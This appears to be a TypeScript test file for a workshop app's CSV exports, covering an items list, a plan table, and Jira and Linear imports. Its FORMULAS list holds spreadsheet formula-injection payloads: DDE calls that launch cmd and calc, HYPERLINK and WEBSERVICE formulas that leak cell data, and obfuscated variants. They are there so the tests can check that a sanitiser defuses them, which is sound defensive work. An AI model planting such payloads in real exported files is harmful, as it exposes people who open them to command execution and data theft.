import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { exportSource } from '#test/helpers/export-source.ts';
import { convertAllWithOffice, noOffice } from '#test/helpers/office.ts';
import { sampleWorkshop, workshopWith } from '#test/helpers/sample-workshop.ts';
import { harmlessCell } from './harmless-cell.ts';
import { itemsCsv } from './items-csv.ts';
import { planCsv } from './plan-csv.ts';
import { trackerCsv } from './tracker-csv.ts';
import { writeCsv } from './write-csv.ts';

/** Ways to hide a formula in a text that somebody else will open. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.org?"&A1,"see")',
  '=WEBSERVICE("http://example.org")',
  '=DDE("cmd";"/C calc";"x")',
  ' =1+1',
  '   =1+1',
  '\u00a0=1+1',
  '\u2003=1+1',
  '\u3000=1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\n\n  =1+1',
  'first line\n=1+1',
  'first line\r\n\u00a0=1+1',
  'first line\u2028=1+1',
  '"=1+1',
  '"" =1+1',
  ';=1+1',
  'text;=1+1',
  'text; "=1+1',
  'text\t=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u0000=1+1',
  '＝1+1',
] as const;

function read(bytes: Uint8Array): readonly Readonly<Record<string, string>>[] {
  const { data, errors } = Papa.parse<Record<string, string>>(
    new TextDecoder('utf-8').decode(bytes).replace(/\r\n$/, ''),
    { header: true },
  );
  expect(errors).toEqual([]);
  return data;
}

describe('a cell', () => {
  it.each(FORMULAS)('that holds %j is text in every line and after every semicolon', (formula) => {
    const starts = harmlessCell(formula).split(/[\n;]/);
    for (const start of starts) expect(start.replace(/[\s\p{Cf}"]/gu, '')).not.toMatch(/^[=+\-@＝＋－＠]/);
  });

  it.each(['Prove it – first', 'a, b; c', '“quoted”', '3 - 2 = 1', 'two\nlines', 'Łódź 日本 👍', "it's"])(
    'that holds %j stays as it is',
    (text) => {
      expect(harmlessCell(text)).toBe(text);
    },
  );

  it('is never evaluated by LibreOffice, however it parts the cells', { timeout: 240_000 }, ({ skip }) => {
    const why = noOffice('Calc');
    skip(why !== undefined, why);
    const rows = FORMULAS.map((formula, at) => [`row ${at}`, formula, `${formula}${formula}`]);
    const ours = writeCsv(['name', 'one', 'two'], rows);
    const raw = new TextEncoder().encode(`"a","=1+1"\r\nq;=5+5\r\n`);
    const formulasIn = (bytes: Uint8Array): number =>
      new TextDecoder().decode(bytes).match(/table:formula=/g)?.length ?? 0;
    // Parted at commas and semicolons alike, text in quotes not taken as text, formulas evaluated: the most careless
    // way to open a file. Cells that begin after one separator alone begin here as well.
    const filter = 'CSV:44/59,34,76,1,,0,false,true,false,false,false,0,true';
    const [opened = raw, control = ours] = convertAllWithOffice(
      [
        { name: 'ours.csv', bytes: ours },
        { name: 'raw.csv', bytes: raw },
      ],
      'fods',
      filter,
    );
    expect(formulasIn(control)).toBe(2);
    expect(formulasIn(opened)).toBe(0);
  });
});

describe('the list of items', () => {
  it('holds everything the fullest sample answered and named, and no note', () => {
    const workshop = sampleWorkshop('meridian-freight');
    const rows = read(itemsCsv(exportSource(workshop)));
    const items = new Set(rows.map((row) => row['Item']));
    const named = [
      ...Object.values(workshop.claims).flatMap(({ own }) => own?.text ?? []),
      ...Object.values(workshop.surface.parts).map(({ name }) => name),
      ...Object.values(workshop.surface.notes).map(({ text }) => text),
      ...Object.values(workshop.metrics).map(({ name }) => name),
      ...Object.values(workshop.actions).map(({ text }) => text),
      ...Object.values(workshop.decisions).map(({ text }) => text),
      ...Object.values(workshop.parking).map(({ text }) => text),
      ...Object.values(workshop.moments).map(({ title }) => title),
      ...Object.values(workshop.ideas).map(({ text }) => text),
      ...Object.values(workshop.votes).map(({ title }) => title),
      ...Object.values(workshop.attachments).map(({ name, caption }) => caption || name),
    ];
    expect(named.length).toBeGreaterThan(60);
    for (const name of named) expect(items).toContain(harmlessCell(name));
    const whole = new TextDecoder().decode(itemsCsv(exportSource(workshop)));
    for (const { note } of Object.values(workshop.claims)) if (note !== '') expect(whole).not.toContain(note);
  });

  it('says of each idea what it was written for and what became of it', () => {
    const rows = read(itemsCsv(exportSource(sampleWorkshop('meridian-freight'))));
    const said = (item: string) => rows.find((row) => row['Item'] === item);
    expect(said('Check earlier.')).toMatchObject({
      Answer: 'merged',
      'Source or reason':
        'merged into “Show the check while correcting, not after.”\nwritten for “What must we not forget about the flow of a declaration?”\nin the cluster “Flow”',
      Who: 'Elif',
    });
    expect(said('Two telephones, never one.')).toMatchObject({ Answer: 'parked' });
    expect(said('What would make the next failure a small one?')).toMatchObject({
      Answer: '1-2-4-all',
      Day: '2026-11-17',
    });
  });

  it('says who said it, when, and how good the evidence is', () => {
    const workshop = workshopWith({
      people: { noor: { name: 'Noor Haddad', role: 'Owner' } },
      claims: { EP3: { status: 'proved', grade: 3, source: '=evil', saidBy: 'noor', seenOn: '2026-10-02' } },
    });
    const row = read(itemsCsv(exportSource(workshop))).find(({ Id }) => Id === 'EP3');
    expect(row).toMatchObject({
      Answer: 'Proved',
      'Grade or score': '3',
      'Source or reason': "'=evil",
      Who: 'Noor Haddad',
      Day: '2026-10-02',
    });
  });
});

describe('the plan as a table', () => {
  it('gives every item its weeks, its days and its owner', () => {
    const source = exportSource(sampleWorkshop('meridian-freight'));
    const rows = read(planCsv(source));
    const planned = rows.filter((row) => row['No.'] !== '');
    expect(planned.map(({ Title }) => Title)).toEqual(
      source.plan.fields.change.map(({ title }) => harmlessCell(title)),
    );
    expect(planned[0]).toMatchObject({
      'First week': '1',
      'Last week': '2',
      'First day': '2026-11-30',
      'Last day': '2026-12-11',
      'Days, likely': '5',
      Owner: 'Dana Weiss',
    });
    const { keep, defer } = source.plan.fields;
    expect(rows).toHaveLength(planned.length + keep.length + defer.length + source.plan.milestones.length);
  });

  it('of an empty workshop is a table all the same', () => {
    const [empty = {}, full = {}] = [workshopWith({}), sampleWorkshop('meridian-freight')].map(
      (workshop) => read(planCsv(exportSource(workshop)))[0],
    );
    expect(Object.keys(empty)).toContain('Owner');
    expect(Object.keys(empty)).toStrictEqual(Object.keys(full));
  });
});

describe('the plan for a tracker', () => {
  const source = exportSource(sampleWorkshop('meridian-freight'));

  it('has the columns that Jira maps, with seconds as it counts them and links to what comes first', () => {
    const text = new TextDecoder().decode(trackerCsv(source, 'jira'));
    expect(text.startsWith('"Issue Id","Summary","Issue Type","Description"')).toBe(true);
    const [header = [], ...rows] = Papa.parse<string[]>(text.trim()).data;
    expect(rows).toHaveLength(source.plan.fields.change.length);
    const [first = []] = rows;
    expect(first[header.indexOf('Original Estimate')]).toBe(String(5 * 8 * 3600));
    expect(first[header.indexOf('Due Date')]).toBe('2026-12-11');
    expect(first[header.indexOf('Description')]).toContain('Dana Weiss');
    const waiting = source.plan.fields.change.filter(({ dependsOn }) => dependsOn.length > 0);
    const linked = rows.filter((row) => (row[header.indexOf('Inward issue link (Blocks)')] ?? '') !== '');
    expect(linked).toHaveLength(waiting.length);
  });

  it('has the columns that Linear’s importer reads, both sides of each dependency', () => {
    const rows = read(trackerCsv(source, 'linear'));
    expect(Object.keys(rows[0] ?? {}).slice(0, 5)).toEqual(['Id', 'Team', 'Title', 'Description', 'Status']);
    expect(rows[0]).toMatchObject({ Id: 'PLAN-1', Assignee: 'Dana Weiss', 'Due Date': '2026-12-11' });
    for (const row of rows) {
      for (const id of (row['Blocked By'] ?? '').split(', ').filter((one) => one !== '')) {
        expect(rows.find(({ Id }) => Id === id)?.['Blocks']?.split(', ')).toContain(row['Id']);
      }
    }
  });
});
